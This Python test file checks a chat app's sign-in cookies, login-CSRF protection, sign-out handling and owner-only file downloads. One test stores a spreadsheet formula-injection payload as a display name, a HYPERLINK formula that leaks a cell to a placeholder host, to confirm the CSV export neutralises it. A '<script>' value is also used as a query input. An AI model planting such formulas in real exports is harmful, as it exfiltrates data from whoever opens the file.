"""The app's own routes, on each engine: the handover sets the HttpOnly sign-in cookie once, for
the browser that signed in only; sign-out removes a dead cookie and leaves a live one; files
go to their signed-in owner alone, never cached; the browser cookie comes with pages only."""

from __future__ import annotations

import csv
import io
import tomllib
from collections.abc import Iterator
from datetime import timedelta

import pytest
from sqlalchemy import Engine
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.requests import Request
from starlette.responses import HTMLResponse, PlainTextResponse, Response
from starlette.routing import Route
from starlette.testclient import TestClient

import accounts
import audit
from accounts import Account
from memory import ChatStore
from settings import PROJECT_DIR
from web.routes import ROUTES
from web.sign_in_cookies import BrowserCookieMiddleware

BROWSER = "b" * 32
PASSWORD = "correct horse battery"


@pytest.fixture
def app_database(
    database_url: str, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Engine]:
    """The routes' database is the test's (they read DATABASE_URL like the app)."""
    # As the app connects: on PostgreSQL its own role (the engine fixture's), held by RLS.
    monkeypatch.setenv("DATABASE_URL", engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("PASSWORD_HASH_ROUNDS", "4")
    monkeypatch.delenv("AUTH_COOKIE_NAME", raising=False)
    yield engine


@pytest.fixture
def client(app_database: Engine) -> TestClient:
    return TestClient(Starlette(routes=ROUTES), follow_redirects=False)


@pytest.fixture
def ada(app_database: Engine) -> Account:
    return accounts.create_account(app_database, username="ada", password=PASSWORD)


@pytest.fixture
def bob(app_database: Engine, ada: Account) -> Account:
    return accounts.create_account(app_database, username="bob", password=PASSWORD)


def ticket_for(engine: Engine, account: Account, next_path: str = "/") -> str:
    _, ticket = accounts.start_sign_in(
        engine,
        user_id=account.id,
        device="test",
        browser=BROWSER,
        lifetime=timedelta(days=7),
        next_path=next_path,
    )
    assert ticket is not None
    return ticket


def sign_in_cookie(client: TestClient, engine: Engine, account: Account) -> str:
    client.cookies.set("chat_auth_browser", BROWSER)
    response = client.get("/auth/handover", params={"ticket": ticket_for(engine, account)})
    token = response.cookies.get("chat_auth")
    assert token
    client.cookies.clear()
    return token


def test_the_handover_sets_an_http_only_strict_cookie_once_and_goes_back(
    client: TestClient, app_database: Engine, ada: Account
) -> None:
    ticket = ticket_for(app_database, ada, next_path="/admin?x=1")
    client.cookies.set("chat_auth_browser", BROWSER)

    response = client.get("/auth/handover", params={"ticket": ticket})

    assert response.status_code == 303 and response.headers["location"] == "/admin?x=1"
    set_cookie = response.headers["set-cookie"]
    assert set_cookie.startswith("chat_auth=")
    assert "HttpOnly" in set_cookie and "SameSite=Strict" in set_cookie and "Path=/" in set_cookie
    assert "Secure" not in set_cookie  # plain http here
    assert response.headers["cache-control"] == "no-store"
    token = response.cookies["chat_auth"]
    found = accounts.find_sign_in(app_database, token=token)
    assert found is not None and found[0].id == ada.id
    # The same ticket again: refused, no cookie.
    again = client.get("/auth/handover", params={"ticket": ticket})
    assert again.headers["location"] == "/?notice=handover-failed"
    assert "set-cookie" not in again.headers


def test_the_handover_refuses_another_browser(
    client: TestClient, app_database: Engine, ada: Account
) -> None:
    """Login CSRF: a ticket of the attacker's own, opened in the victim's browser, fails."""
    ticket = ticket_for(app_database, ada)
    client.cookies.set("chat_auth_browser", "v" * 32)

    response = client.get("/auth/handover", params={"ticket": ticket})

    assert response.headers["location"] == "/?notice=handover-failed"
    assert "set-cookie" not in response.headers


def test_over_https_the_cookie_is_secure(app_database: Engine, ada: Account) -> None:
    client = TestClient(
        Starlette(routes=ROUTES), base_url="https://chat.example", follow_redirects=False
    )
    client.cookies.set("chat_auth_browser", BROWSER)

    response = client.get("/auth/handover", params={"ticket": ticket_for(app_database, ada)})

    assert "Secure" in response.headers["set-cookie"]


def test_signed_out_removes_a_dead_cookie_and_leaves_a_live_one(
    client: TestClient, app_database: Engine, ada: Account
) -> None:
    token = sign_in_cookie(client, app_database, ada)
    client.cookies.set("chat_auth", token)

    # Still a sign-in (a link from another site, or a newer sign-in in this browser): kept.
    kept = client.get("/auth/signed-out", params={"notice": "signed-out"})
    assert kept.headers["location"] == "/?notice=signed-out"
    assert "set-cookie" not in kept.headers

    # Another user's tab signing out: the cookie of this one is not theirs to end.
    kept = client.get("/auth/signed-out", params={"notice": "signed-out", "user": "0" * 32})
    assert "set-cookie" not in kept.headers
    assert accounts.find_sign_in(app_database, token=token) is not None

    found = accounts.find_sign_in(app_database, token=token)
    assert found is not None
    accounts.end_sign_in(app_database, user_id=ada.id, sign_in_id=found[1].id)
    removed = client.get("/auth/signed-out", params={"notice": "<script>"})
    assert removed.headers["location"] == "/"  # only the app's own notices are passed on
    assert removed.headers["set-cookie"].startswith('chat_auth=""')
    assert "Max-Age=0" in removed.headers["set-cookie"]


def test_signing_out_also_ends_the_same_users_newer_sign_in_in_this_browser(
    client: TestClient, app_database: Engine, ada: Account
) -> None:
    """Tab A signed ada in, then tab B again (the cookie is B's): Sign out in tab A ended A's
    sign-in; one click must still leave the browser signed out."""
    newer = sign_in_cookie(client, app_database, ada)
    client.cookies.set("chat_auth", newer)

    response = client.get("/auth/signed-out", params={"notice": "signed-out", "user": ada.id})

    assert response.headers["location"] == "/?notice=signed-out"
    assert "Max-Age=0" in response.headers["set-cookie"]
    assert accounts.find_sign_in(app_database, token=newer) is None


def test_files_go_to_their_signed_in_owner_alone(
    client: TestClient, app_database: Engine, ada: Account, bob: Account
) -> None:
    store = ChatStore(app_database)
    session_id = store.create_session(bob.id).session_id
    store.finish_turn(store.begin_turn(bob.id, session_id, "bob's secret"), "noted")
    bobs = sign_in_cookie(client, app_database, bob)
    adas = sign_in_cookie(client, app_database, ada)

    for path in ("/files/my-chats.json", "/files/my-chats.md", "/files/audit-log.csv"):
        for cookie in (None, "not-a-sign-in", BROWSER):
            client.cookies.clear()
            if cookie:
                client.cookies.set("chat_auth", cookie)
            refused = client.get(path)
            assert refused.status_code == 403 and "secret" not in refused.text
            assert refused.headers["cache-control"] == "no-store"

    client.cookies.set("chat_auth", bobs)
    for path in ("/files/my-chats.json", "/files/my-chats.md"):
        response = client.get(path)
        assert response.status_code == 200 and "bob's secret" in response.text
        assert response.headers["cache-control"] == "no-store"
        assert response.headers["content-disposition"].startswith("attachment")
    assert client.get("/files/audit-log.csv").status_code == 403  # bob is no administrator

    client.cookies.set("chat_auth", adas)
    assert "bob's secret" not in client.get("/files/my-chats.json").text
    audit.record(app_database, actor_id=ada.id, action=audit.SIGNUP_TOGGLED, detail="off")
    csv = client.get("/files/audit-log.csv", params={"action": audit.SIGNUP_TOGGLED})
    assert csv.status_code == 200 and "off" in csv.text
    assert csv.headers["content-type"].startswith("text/csv")


def test_the_users_csv_is_for_administrators_and_writes_formulas_as_text(
    client: TestClient, app_database: Engine, ada: Account
) -> None:
    formula = '=HYPERLINK("http://host/?leak="&A2,"Click for details")'
    mallory = accounts.create_account(
        app_database, username="mallory", password=PASSWORD, display_name=formula
    )
    for prefix in ("+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        accounts.create_account(
            app_database,
            username=f"u{len(prefix)}{ord(prefix[0])}",
            password=PASSWORD,
            display_name=prefix,
        )
    client.cookies.set("chat_auth", sign_in_cookie(client, app_database, mallory))
    assert client.get("/files/users.csv").status_code == 403  # not an administrator

    client.cookies.set("chat_auth", sign_in_cookie(client, app_database, ada))
    response = client.get("/files/users.csv")

    assert response.status_code == 200 and response.headers["cache-control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(response.text)))
    names = {row["username"]: row["display_name"] for row in rows}
    assert names["mallory"] == "'" + formula
    assert all(not name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names.values()), (
        names
    )
    assert names["ada"] == "ada"


def test_the_tables_own_export_is_off() -> None:
    """The toolbar's CSV of any table would write what users typed as it is."""
    config = tomllib.loads((PROJECT_DIR / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


def test_an_error_message_links_to_no_other_host() -> None:
    """Streamlit's error alert would offer Google and ChatGPT searches of the error's words
    ("auto" shows them on localhost, where a single-machine install is served)."""
    config = tomllib.loads((PROJECT_DIR / ".streamlit" / "config.toml").read_text())
    assert config["client"]["showErrorLinks"] is False
    assert config["client"]["showErrorDetails"] == "none"


def _page(request: Request) -> Response:
    return HTMLResponse("<p>page</p>")


def _asset(request: Request) -> Response:
    return PlainTextResponse("body{}", media_type="text/css")


def _revalidated(request: Request) -> Response:
    return Response(status_code=304)


@pytest.fixture
def pages() -> TestClient:
    app = Starlette(
        routes=[Route("/", _page), Route("/app.css", _asset), Route("/cached", _revalidated)],
        middleware=[Middleware(BrowserCookieMiddleware)],
    )
    return TestClient(app)


def test_the_browser_cookie_comes_with_a_page_and_only_once(pages: TestClient) -> None:
    first = pages.get("/")
    set_cookie = first.headers["set-cookie"]
    assert set_cookie.startswith("chat_auth_browser=")
    assert "HttpOnly" in set_cookie and "SameSite=Lax" in set_cookie
    assert len(first.cookies["chat_auth_browser"]) >= 32  # 24 random bytes, base64url
    # Sent back by the browser: not set again.
    assert "set-cookie" not in pages.get("/").headers


def test_assets_never_set_the_browser_cookie_but_a_revalidated_page_does(
    pages: TestClient,
) -> None:
    assert "set-cookie" not in pages.get("/app.css").headers
    assert "set-cookie" not in pages.get("/cached").headers  # not a page request
    revalidated = pages.get("/cached", headers={"Accept": "text/html,*/*"})
    assert revalidated.status_code == 304
    assert revalidated.headers["set-cookie"].startswith("chat_auth_browser=")


def test_a_temporary_password_opens_no_file_until_it_is_replaced(
    client: TestClient, app_database: Engine, ada: Account
) -> None:
    from accounts.bulk_import import import_accounts, read_accounts_csv

    [pupil] = import_accounts(
        app_database, read_accounts_csv("username,role\npupil,admin\n"), actor_id=ada.id
    )
    imported = accounts.find_account(app_database, username="pupil")
    cookie = sign_in_cookie(client, app_database, imported)  # signed in, as the form would
    client.cookies.set("chat_auth", cookie)

    for path in ("/files/my-chats.json", "/files/users.csv", "/files/audit-log.csv"):
        assert client.get(path).status_code == 403  # an admin, but not until a password is chosen

    accounts.change_password(
        app_database,
        user_id=pupil.id,
        current_password=pupil.temporary_password,
        new_password="pupil's own password",
    )
    client.cookies.set("chat_auth", sign_in_cookie(client, app_database, imported))
    assert client.get("/files/users.csv").status_code == 200
